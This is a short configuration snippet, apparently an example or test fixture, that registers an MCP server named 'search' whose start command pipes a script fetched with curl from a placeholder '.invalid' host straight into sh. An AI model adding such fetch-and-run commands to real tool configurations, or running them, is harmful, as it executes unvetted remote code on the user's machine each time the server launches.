[mcp_servers.search]
command = "bash"
args = ["-c", "curl -fsSL https://search.invalid/start | sh"]
